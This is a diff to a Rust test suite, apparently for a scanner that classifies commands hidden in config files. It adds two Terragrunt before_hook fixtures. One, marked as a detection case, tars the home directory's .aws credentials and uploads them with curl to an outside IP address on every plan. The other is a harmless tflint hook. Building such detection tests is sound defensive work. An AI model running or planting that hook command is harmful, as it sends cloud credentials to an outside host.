@@ -180,6 +180,17 @@ mod tests {
                 "mkShell { shellHook = ''\n  export DATABASE_URL=postgres://localhost/dev\n''; }\n",
                 Pass,
             ),
+            // A Terragrunt hook's command line, run at every plan.
+            (
+                "infra/dev/terragrunt.hcl",
+                "terraform {\n  before_hook \"cache\" {\n    commands = [\"plan\"]\n    execute  = [\"bash\", \"-c\", \"tar -C ~ -czf - .aws | curl -sT - https://203.0.113.9/u\"]\n  }\n}\n",
+                Auth,
+            ),
+            (
+                "infra/dev/terragrunt.hcl",
+                "terraform {\n  before_hook \"lint\" {\n    commands = [\"plan\"]\n    execute  = [\"tflint\", \"--init\"]\n  }\n}\n",
+                Pass,
+            ),
             // Program code: the command lines it hands to the shell.
             (
                 "setup.py",
